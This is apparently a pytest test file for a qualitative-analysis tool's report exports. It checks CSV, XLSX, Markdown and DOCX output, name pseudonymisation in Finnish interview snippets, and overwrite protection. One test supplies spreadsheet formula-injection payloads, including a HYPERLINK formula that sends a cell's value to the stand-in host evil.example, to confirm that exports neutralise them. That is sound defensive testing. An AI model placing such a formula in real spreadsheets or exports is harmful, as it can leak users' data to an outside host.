"""Report exports: coded units as CSV/XLSX, the tree as Markdown/DOCX, with names pseudonymised."""

import csv
import json

import pytest

from tests.conftest import code_transcript

TRANSCRIPT = ("T8\n\nH: Keiden kanssa teet yhteistyötä?\n"
              "P6: Pekka Te-toimistosta on tosi tärkee. Soitin Pekalle eilen Kajaanissa.\n")


@pytest.fixture
def coded(tmp_path, cli, seed_study):
    code_transcript(cli, seed_study, tmp_path, TRANSCRIPT, "yhteistyö Te-toimiston kanssa")
    return seed_study


def test_units_csv_with_pseudonyms_and_a_warning(cli, coded, tmp_path):
    out = tmp_path / "units.csv"
    result = cli("export", coded, "csv", out, "--pseudonymise", "Pekka=[nimi1]", "--json")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert list(rows[0]) == ["unit", "document", "speaker", "question", "original", "normalised", "reduction", "sub",
                             "upper", "combining", "coder", "model_version", "decision"]
    ours = [r for r in rows if r["coder"] == "anna"]
    assert len(ours) == 2 and ours[0]["speaker"] == "P6" and ours[0]["question"] == "T8"
    assert ours[0]["sub"] == "Työ- ja elinkeinotoimisto" and ours[0]["upper"] == "työvoimahallinnon palvelut"
    text = " ".join(r["original"] for r in ours)
    assert "Pekka" not in text and "Pekalle" not in text and text.count("[nimi1]") == 2
    assert "Kajaanissa" in result.output  # listed in the warning: a place left as it is
    assert json.loads(result.output.strip().splitlines()[-1])["rows"] == len(rows)


def test_units_xlsx(cli, coded, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "units.xlsx"
    assert cli("export", coded, "xlsx", out).exit_code == 0
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    assert header[:4] == ["unit", "document", "speaker", "question"] and sheet.max_row > 100


def test_tree_markdown_and_docx_with_examples(cli, coded, tmp_path):
    md = tmp_path / "tree.md"
    result = cli("export", coded, "tree-md", md, "--question", "T8", "--examples", "--pseudonymise", "Pekka=P")
    assert result.exit_code == 0, result.output
    text = md.read_text(encoding="utf-8")
    assert "| subcategory | upper category | combining category | reductions | speakers | example |" in text
    line = next(x for x in text.splitlines() if x.startswith("| Työ- ja elinkeinotoimisto |"))
    assert "“" in line and "Pekka" not in line
    import docx

    out = tmp_path / "tree.docx"
    assert cli("export", coded, "tree-docx", out).exit_code == 0
    document = docx.Document(out)
    assert len(document.tables) == 15
    assert [c.text for c in document.tables[0].rows[0].cells] == ["subcategory", "upper category",
                                                                   "combining category", "reductions", "speakers"]
    names = {row.cells[0].text for table in document.tables for row in table.rows}
    assert "asiakkaan motivointi" in names


def test_report_export_never_overwrites(cli, coded, tmp_path):
    out = tmp_path / "units.csv"
    out.write_text("mine", encoding="utf-8")
    result = cli("export", coded, "csv", out)
    assert result.exit_code != 0 and "already exists" in result.output
    assert out.read_text(encoding="utf-8") == "mine"


FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A2,"klikkaa")', "=1+1", "+358 40 123", "-1+2", "@SUM(A1:A9)"]


def test_exports_neutralise_formulas_in_csv_and_xlsx(cli, study_path, tmp_path):
    import io

    from openpyxl import load_workbook

    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["reduction", "subcategory", "original", "question"])
    for i, formula in enumerate(FORMULAS):
        writer.writerow([formula, f"luokka {i}", formula, "T1"])
    writer.writerow(["tavallinen pelkistys", "=SUM(1,2)", "ihan tavallinen", "T1"])
    source = tmp_path / "evil.csv"
    source.write_text(buffer.getvalue(), encoding="utf-8")
    assert cli("reductions", "import", study_path, source).exit_code == 0

    out_csv, out_xlsx = tmp_path / "units.csv", tmp_path / "units.xlsx"
    assert cli("export", study_path, "csv", out_csv).exit_code == 0
    assert cli("export", study_path, "xlsx", out_xlsx).exit_code == 0
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8", newline="")))
    assert [r["reduction"] for r in rows] == ["'" + f for f in FORMULAS] + ["tavallinen pelkistys"]
    assert [r["original"] for r in rows] == ["'" + f for f in FORMULAS] + ["ihan tavallinen"]
    assert rows[-1]["sub"] == "'=SUM(1,2)"
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    assert not any(v.startswith(dangerous) for r in rows for v in r.values())

    sheet = load_workbook(out_xlsx).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value or "").startswith(dangerous)]
    values = {c.value for c in cells}
    assert {"'" + f for f in FORMULAS} <= values and "'=SUM(1,2)" in values


def test_tab_and_carriage_return_are_neutralised_too(tmp_path):
    from openpyxl import load_workbook

    from koodari.reports import UNIT_COLUMNS, write_units

    row = dict.fromkeys(UNIT_COLUMNS, "")
    row.update(reduction="\t=1+1", original="\r=2+2", sub="ok", coder="anna", model_version=3)
    write_units([row], tmp_path / "u.csv", "csv")
    written = next(csv.DictReader((tmp_path / "u.csv").open(encoding="utf-8", newline="")))
    assert written["reduction"] == "'\t=1+1" and written["original"] == "'\r=2+2" and written["sub"] == "ok"
    write_units([row], tmp_path / "u.xlsx", "xlsx")
    cells = list(load_workbook(tmp_path / "u.xlsx").active.iter_rows(min_row=2, values_only=True))[0]
    assert "'\t=1+1" in cells and "'\r=2+2" in cells and 3 in cells  # numbers stay numbers
